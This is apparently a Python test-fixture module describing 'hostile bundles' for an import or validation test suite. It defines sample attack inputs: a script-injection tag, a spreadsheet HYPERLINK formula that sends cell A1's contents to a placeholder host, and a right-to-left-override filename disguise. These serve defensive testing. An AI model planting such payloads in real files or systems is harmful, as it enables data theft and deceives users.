"""What a hostile bundle is, and what they are made of."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Final

from tests.bundles import Files, packed

#: What a bundle has to be refused with, or that it is taken.
TAKEN: Final = "taken"
#: Either is well; the bounds hold.
EITHER: Final = ""
SCRIPT: Final = "<script>document.title='ran'</script>"
FORMULA: Final = '=HYPERLINK("http://example.invalid/?"&A1,"more")'
TURNED: Final = "\u202egnp.gnihton"
Json = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One of them.

    Attributes:
        name: short.
        make: makes its bytes.
        words: what the refusal has to say, a part of it; ``TAKEN`` where it has to be
            taken with what was in it defused.
        told: where it is taken, a part of what has to be said of it; "" for nothing.
    """

    name: str
    make: Callable[[], bytes]
    words: str
    told: str = ""


def tables() -> Files:
    """A bundle without wire logs: small, quick to check."""
    return packed(tables_only=True)


def raw() -> Files:
    """A bundle with its wire log."""
    return packed()
